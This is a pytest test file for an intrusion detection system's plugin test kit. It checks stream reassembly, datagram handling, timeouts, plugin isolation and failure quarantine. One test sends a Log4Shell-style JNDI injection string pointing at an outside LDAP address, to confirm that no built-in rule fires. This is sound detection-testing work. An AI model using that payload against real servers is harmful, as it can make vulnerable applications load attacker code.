"""The test kit of plugin authors: what is said arrives, however it is cut; only the plugins under test run."""

from __future__ import annotations

from typing import Any

import pytest

from ids import hookimpl
from ids.config import InvalidDocument
from ids.errors import PluginError, UsageError
from ids.plugin.host import MAX_CONSECUTIVE_FAILURES
from ids.testing import MSS, Session, make_datagrams, make_flow, make_match, to_client
from ids.types import Datagram, Datagrams, Direction, Match, StreamChunk, Streams


class Listener:
    """Notes what each hook brings."""

    def __init__(self) -> None:
        self.streams = dict.fromkeys(Direction, b"")
        self.closed: list[Direction] = []
        self.datagrams: list[tuple[Direction, bytes]] = []
        self.calls = 0
        self.stopped = False

    @hookimpl
    def ids_streams(self, streams: Streams) -> None:
        self.calls += 1

    @hookimpl
    def ids_stream(self, chunk: StreamChunk) -> None:
        assert chunk.offset == len(self.streams[chunk.direction])
        self.streams[chunk.direction] += chunk.data
        self.closed += [chunk.direction] * chunk.closed

    @hookimpl
    def ids_datagrams(self, datagrams: Datagrams) -> None:
        self.datagrams += [(datagram.direction, datagram.data) for datagram in datagrams]

    @hookimpl
    def ids_stop(self) -> None:
        self.stopped = True


@pytest.mark.parametrize("batch", [None, 1, 3])
@pytest.mark.parametrize(("src", "dst"), [("192.0.2.1", "203.0.113.1"), ("2001:db8::1", "2001:db8::2")])
def test_both_sides_are_heard_whole_whatever_the_batches(batch: int | None, src: str, dst: str) -> None:
    listener, long = Listener(), bytes(range(256)) * (3 * MSS // 256)
    session = Session(listener=listener)
    session.tcp(b"ask", to_client(long), b"thanks", src=src, dst=dst, batch=batch)
    assert listener.streams == {Direction.TO_SERVER: b"askthanks", Direction.TO_CLIENT: long}
    assert sorted(listener.closed) == [Direction.TO_SERVER, Direction.TO_CLIENT]
    assert (listener.calls == 1) is (batch is None)


def test_a_connection_stays_open_until_the_end() -> None:
    listener = Listener()
    session = Session(listener=listener)
    session.tcp(b"ask", close=False)
    assert listener.closed == []
    session.end()
    assert listener.closed
    assert listener.stopped
    assert [event["event_type"] for event in session.events] == ["flow", "stats"]


def test_datagrams_are_heard_one_by_one() -> None:
    listener = Listener()
    Session(listener=listener).udp(b"question", to_client(b"answer"))
    assert listener.datagrams == [(Direction.TO_SERVER, b"question"), (Direction.TO_CLIENT, b"answer")]


def test_time_passes_when_it_is_said_so() -> None:
    session = Session("flow.tcp_established_timeout_s=60", listener=Listener())
    session.tcp(b"ask", close=False)
    session.wait(30)
    assert session.events == []
    session.wait(31)
    assert [event["flow"]["reason"] for event in session.events] == ["timeout"]


def test_only_the_plugins_under_test_run() -> None:
    """No rule looks on, so what is reported is the plugin's own."""
    session = Session(listener=Listener())
    session.tcp(b"GET /?x=${jndi:ldap://198.51.100.66/a} HTTP/1.1\r\nHost: shop\r\n\r\n")
    assert session.engine.plugins.names == ["listener"]
    assert (session.alerts, session.blocks) == ([], [])


def test_mistakes_are_refused_at_once() -> None:
    class Misspelt:
        @hookimpl
        def ids_steam(self) -> None: ...

    class Refuses:
        @hookimpl
        def ids_start(self, context: Any) -> None:
            raise UsageError(f"no: {context.options['reason']}")

    with pytest.raises(PluginError, match="ids_steam"):
        Session(typo=Misspelt())
    with pytest.raises(InvalidDocument, match="nonsense"):
        Session("nonsense=1")
    with pytest.raises(UsageError, match="no: just so"):
        Session("plugins.options.refuses.reason=just so", refuses=Refuses())


def test_datagrams_made_by_hand_read_as_those_of_a_batch() -> None:
    flow = make_flow(proto=17, dport=53)
    made = [Datagram(flow, Direction.TO_SERVER, data, 1, number) for number, data in enumerate((b"ab", b"c"), 1)]
    datagrams = make_datagrams(made)
    assert [(one.data, one.number) for one in datagrams] == [(b"ab", 1), (b"c", 2)]
    assert datagrams.data == b"abc"


class Faulty:
    """A detector that fails on streams with one word in them, and finds all others."""

    @hookimpl
    def ids_streams(self, streams: Streams) -> list[Match]:
        """Fail, or match."""
        if b"fail" in streams.data:
            raise RuntimeError
        return [make_match(streams.flows.view(int(streams.slot[0])))]


def test_a_plugin_that_one_capture_had_quarantined_works_in_the_next() -> None:
    """What is between two captures of a replay is a drain."""
    session = Session(faulty=Faulty())
    for _ in range(MAX_CONSECUTIVE_FAILURES):
        session.tcp(b"fail", close=False, batch=10)
    session.tcp(b"ok", close=False, batch=10)
    assert session.sids == []
    session.engine.drain()
    session.tcp(b"ok", close=False, batch=10)
    assert len(session.sids) == 1
